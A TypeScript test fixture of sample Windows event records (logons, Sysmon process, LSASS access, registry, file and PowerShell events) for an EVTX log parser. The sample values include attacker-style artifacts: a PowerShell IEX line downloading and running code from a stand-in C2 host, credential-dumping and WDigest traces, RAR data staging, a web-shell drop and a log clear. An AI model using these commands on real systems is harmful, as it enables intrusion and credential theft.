import type { EventDefinition, EventField, EventProvider, EventRecord, EventValue, ValueType } from '../../src/range/evtx/index.ts';

type Fields = Readonly<Record<string, readonly [ValueType, EventValue]>>;

const provider = (name: string, guid: string | null): EventProvider => ({ name, guid, terminatedStrings: false, fragmentHeader: false });

const AUDITING = provider('Microsoft-Windows-Security-Auditing', '{54849625-5478-4994-A5BA-3E3B0328C30D}');
const SYSMON = provider('Microsoft-Windows-Sysmon', '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}');
const SERVICES = provider('Service Control Manager', '{555908D1-A6D7-4695-8E1E-26931D2012F4}');
const EVENT_LOG = provider('Microsoft-Windows-Eventlog', '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}');
const POWER_SHELL = provider('Microsoft-Windows-PowerShell', '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}');
const CLASSIC = provider('PowerShell', null);

/** One event in every form, and the text that Windows shows for it where forms leave values to that. */
export interface WindowsSample {
  readonly about: string;
  readonly record: EventRecord;
  readonly message: string;
}

let number = 0;

function sample(
  about: string,
  definition: Omit<EventDefinition, 'body' | 'opcode'>,
  fields: Fields,
  message = 'A thing happened.',
): WindowsSample {
  const named = Object.entries(fields).map(([name, [type]]): EventField => ({ name, type }));
  return of(
    about,
    { ...definition, opcode: 0, body: { kind: 'EventData', fields: named } },
    Object.values(fields).map(([, value]) => value),
    message,
  );
}

function of(about: string, definition: EventDefinition, values: readonly EventValue[], message: string): WindowsSample {
  const record: EventRecord = {
    definition,
    time: 1_711_931_564_000_000 + number++ * 1_000_000,
    tick: 0,
    computer: 'DC01.corp.example',
    processId: 748,
    threadId: 3120,
    userId: definition.provider === AUDITING ? null : 'S-1-5-18',
    values,
  };
  return { about, record, message };
}

const audit = (id: number, version: number, task: number) => ({
  provider: AUDITING,
  channel: 'Security',
  id,
  version,
  level: 0,
  task,
  keywords: 0x8020000000000000n,
});
const sysmon = (id: number, version: number) => ({
  provider: SYSMON,
  channel: 'Microsoft-Windows-Sysmon/Operational',
  id,
  version,
  level: 4,
  task: id,
  keywords: 0x8000000000000000n,
});

const USER_SID = 'S-1-5-21-1004336348-1177238915-682003330-1105';
const SUBJECT: Fields = {
  SubjectUserSid: ['Sid', 'S-1-5-18'],
  SubjectUserName: ['UnicodeString', 'DC01$'],
  SubjectDomainName: ['UnicodeString', 'CORP'],
  SubjectLogonId: ['HexInt64', 0x3e7n],
};
const TARGET: Fields = {
  TargetUserSid: ['Sid', USER_SID],
  TargetUserName: ['UnicodeString', 'alice'],
  TargetDomainName: ['UnicodeString', 'CORP'],
  TargetLogonId: ['HexInt64', 0x2990d17n],
};
const GUID_A = '{A158F72C-6D5E-5E02-0000-0010D4050200}';
const GUID_B = '{A158F72C-6D5F-5E02-0000-0010D4050200}';
const POWERSHELL_EXE = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

const CONTEXT = '\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tUserId=CORP\\alice\r\n\tHostName=ConsoleHost\r\n\tCommandLine=dir';
const DETAILS = 'CommandInvocation(Get-ChildItem): "Get-ChildItem"\r\n';

const CLEARED = {
  kind: 'UserData',
  root: 'LogFileCleared',
  namespace: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
  fields: [
    { name: 'SubjectUserSid', type: 'Sid' },
    { name: 'SubjectUserName', type: 'UnicodeString' },
    { name: 'SubjectDomainName', type: 'UnicodeString' },
    { name: 'SubjectLogonId', type: 'HexInt64' },
  ],
} as const;

export const windowsSamples: readonly WindowsSample[] = [
  sample('4624: a logon over the network', audit(4624, 2, 12544), {
    ...SUBJECT,
    ...TARGET,
    LogonType: ['UInt32', 3],
    LogonProcessName: ['UnicodeString', 'Kerberos'],
    AuthenticationPackageName: ['UnicodeString', 'Kerberos'],
    WorkstationName: ['UnicodeString', 'WS05'],
    LogonGuid: ['Guid', '{F422CADB-0089-08EF-07D9-7C4520A027F9}'],
    TransmittedServices: ['UnicodeString', '-'],
    LmPackageName: ['UnicodeString', '-'],
    KeyLength: ['UInt32', 0],
    ProcessId: ['Pointer', 0x254n],
    ProcessName: ['UnicodeString', '-'],
    IpAddress: ['UnicodeString', '10.1.2.3'],
    IpPort: ['UnicodeString', '50132'],
    ImpersonationLevel: ['UnicodeString', '%%1833'],
    RestrictedAdminMode: ['UnicodeString', '-'],
    TargetLinkedLogonId: ['HexInt64', 0n],
    ElevatedToken: ['UnicodeString', '%%1842'],
  }),
  sample('4688: a process starts', audit(4688, 2, 13312), {
    ...SUBJECT,
    NewProcessId: ['Pointer', 0x73cn],
    NewProcessName: ['UnicodeString', 'C:\\Windows\\System32\\cmd.exe'],
    TokenElevationType: ['UnicodeString', '%%1937'],
    ProcessId: ['Pointer', 0x1d20n],
    CommandLine: ['UnicodeString', 'cmd.exe /c "echo a & echo <b> > C:\\x.txt" é😀'],
    ...TARGET,
    ParentProcessName: ['UnicodeString', POWERSHELL_EXE],
    MandatoryLabel: ['Sid', 'S-1-16-12288'],
  }),
  sample('4672: special privileges', audit(4672, 0, 12548), {
    ...SUBJECT,
    PrivilegeList: ['UnicodeString', 'SeSecurityPrivilege\r\n\t\t\tSeDebugPrivilege'],
  }),
  sample('5156: a connection is let through', audit(5156, 1, 12810), {
    ProcessID: ['UInt64', 3596n],
    Application: ['UnicodeString', '\\device\\harddiskvolume2\\windows\\system32\\svchost.exe'],
    Direction: ['UnicodeString', '%%14593'],
    SourceAddress: ['UnicodeString', '10.1.2.3'],
    SourcePort: ['UnicodeString', '50132'],
    DestAddress: ['UnicodeString', '10.1.2.4'],
    DestPort: ['UnicodeString', '445'],
    Protocol: ['UInt32', 6],
  }),
  sample(
    '7045: a service is installed',
    { provider: SERVICES, channel: 'System', id: 7045, version: 0, level: 4, task: 0, keywords: 0x8080000000000000n, qualifiers: 16384 },
    {
      ServiceName: ['UnicodeString', 'kXvQbTzR'],
      ImagePath: ['UnicodeString', '\\\\127.0.0.1\\ADMIN$\\kXvQbTzR.exe'],
      ServiceType: ['UnicodeString', 'user mode service'],
      StartType: ['UnicodeString', 'demand start'],
      AccountName: ['UnicodeString', 'LocalSystem'],
    },
    'A service was installed in the system.\r\n\r\nService Name:  kXvQbTzR\r\nService Start Type:  demand start\r\nService Account:  LocalSystem',
  ),
  sample('Sysmon 1: a process starts', sysmon(1, 5), {
    RuleName: ['UnicodeString', '-'],
    UtcTime: ['UnicodeString', '2024-04-01 00:32:44.100'],
    ProcessGuid: ['Guid', GUID_A],
    ProcessId: ['UInt32', 1852],
    Image: ['UnicodeString', 'C:\\$Recycle.Bin\\v.exe'],
    OriginalFileName: ['UnicodeString', 'Rar.exe'],
    CommandLine: ['UnicodeString', 'v.exe a -r -hpSecret C:\\$Recycle.Bin\\1.rar D:\\export\\*.csv'],
    CurrentDirectory: ['UnicodeString', 'C:\\$Recycle.Bin\\'],
    User: ['UnicodeString', 'CORP\\alice'],
    LogonGuid: ['Guid', GUID_B],
    LogonId: ['HexInt64', 0x2990d17n],
    TerminalSessionId: ['UInt32', 0],
    IntegrityLevel: ['UnicodeString', 'High'],
    Hashes: ['UnicodeString', 'SHA256=14FB2362D0F317107D91424B35D37C1FFD7B8C0C86158BA173B15D77D1200770'],
    ParentProcessGuid: ['Guid', GUID_B],
    ParentProcessId: ['UInt32', 4],
    ParentImage: ['UnicodeString', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'],
    ParentCommandLine: ['UnicodeString', 'w3wp.exe -ap "MSExchangeOWAAppPool"'],
  }),
  sample('Sysmon 3: a connection', sysmon(3, 5), {
    RuleName: ['UnicodeString', '-'],
    UtcTime: ['UnicodeString', '2024-04-01 00:32:44.100'],
    ProcessGuid: ['Guid', GUID_A],
    ProcessId: ['UInt32', 1852],
    Image: ['UnicodeString', 'C:\\Windows\\System32\\mstsc.exe'],
    User: ['UnicodeString', 'CORP\\alice'],
    Protocol: ['UnicodeString', 'tcp'],
    Initiated: ['Boolean', true],
    SourceIsIpv6: ['Boolean', false],
    SourceIp: ['UnicodeString', '10.1.2.3'],
    SourceHostname: ['UnicodeString', '-'],
    SourcePort: ['UInt16', 50132],
    DestinationIp: ['UnicodeString', '10.1.2.4'],
    DestinationHostname: ['UnicodeString', 'dc01.corp.example'],
    DestinationPort: ['UInt16', 3389],
  }),
  sample('Sysmon 10: LSASS is opened', sysmon(10, 3), {
    RuleName: ['UnicodeString', '-'],
    UtcTime: ['UnicodeString', '2024-04-01 00:32:44.100'],
    SourceProcessGUID: ['Guid', GUID_A],
    SourceProcessId: ['UInt32', 1852],
    SourceThreadId: ['UInt32', 4448],
    SourceImage: ['UnicodeString', 'C:\\Users\\Public\\p.exe'],
    TargetProcessGUID: ['Guid', GUID_B],
    TargetProcessId: ['UInt32', 668],
    TargetImage: ['UnicodeString', 'C:\\Windows\\system32\\lsass.exe'],
    GrantedAccess: ['HexInt32', 0x1fffff],
    CallTrace: ['UnicodeString', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\dbgcore.dll+6ceb|UNKNOWN(00007FF8)'],
    SourceUser: ['UnicodeString', 'CORP\\alice'],
  }),
  sample('Sysmon 11: a file is made', sysmon(11, 2), {
    RuleName: ['UnicodeString', '-'],
    UtcTime: ['UnicodeString', '2024-04-01 00:32:44.100'],
    ProcessGuid: ['Guid', GUID_A],
    ProcessId: ['UInt32', 1852],
    Image: ['UnicodeString', 'C:\\Windows\\System32\\cmd.exe'],
    TargetFilename: ['UnicodeString', 'C:\\inetpub\\wwwroot\\aspnet_client\\e.aspx'],
    CreationUtcTime: ['UnicodeString', '2024-04-01 00:32:44.099'],
  }),
  sample(
    'Sysmon 13: a registry value is set',
    sysmon(13, 2),
    {
      RuleName: ['UnicodeString', '-'],
      EventType: ['UnicodeString', 'SetValue'],
      UtcTime: ['UnicodeString', '2024-04-01 00:32:44.100'],
      ProcessGuid: ['Guid', GUID_A],
      ProcessId: ['UInt32', 1852],
      Image: ['UnicodeString', 'C:\\Windows\\System32\\reg.exe'],
      TargetObject: ['UnicodeString', 'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential'],
      Details: ['UnicodeString', 'DWORD (0x00000001)'],
    },
    'Registry value set:\r\nRuleName: -\r\nEventType: SetValue\r\nUtcTime: 2024-04-01 00:32:44.100',
  ),
  of(
    '1102: the log is cleared',
    {
      provider: EVENT_LOG,
      channel: 'Security',
      id: 1102,
      version: 0,
      level: 4,
      task: 104,
      opcode: 0,
      keywords: 0x4020000000000000n,
      body: CLEARED,
    },
    [USER_SID, 'alice', 'CORP', 0x50e87n],
    `The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\t${USER_SID}\r\n\tAccount Name:\talice\r\n\tDomain Name:\tCORP\r\n\tLogon ID:\t0x50E87`,
  ),
  sample(
    '4104: a script block',
    { provider: POWER_SHELL, channel: 'Microsoft-Windows-PowerShell/Operational', id: 4104, version: 1, level: 3, task: 2, keywords: 0n },
    {
      MessageNumber: ['Int32', 1],
      MessageTotal: ['Int32', 1],
      ScriptBlockText: [
        'UnicodeString',
        `# "quoted" & <tagged>\r\n\tIEX (New-Object Net.WebClient).DownloadString('http://c2.example/a')\r\n${'x'.repeat(300)}`,
      ],
      ScriptBlockId: ['UnicodeString', 'b51d7a5b-da34-4e95-b921-56bbbdca05d3'],
      Path: ['UnicodeString', null],
    },
  ),
  of(
    '800: a pipeline of the classic log',
    {
      provider: CLASSIC,
      channel: 'Windows PowerShell',
      id: 800,
      version: 0,
      level: 4,
      task: 8,
      opcode: 0,
      keywords: 0x80000000000000n,
      qualifiers: 0,
      body: {
        kind: 'EventData',
        fields: [
          { name: null, type: 'UnicodeString' },
          { name: null, type: 'UnicodeString' },
          { name: null, type: 'UnicodeString' },
        ],
      },
    },
    ['dir C:\\', CONTEXT, DETAILS],
    `Pipeline execution details for command line: dir C:\\. \r\n\r\nContext Information: \r\n${CONTEXT}\r\n\r\nDetails: \r\n${DETAILS}`,
  ),
];
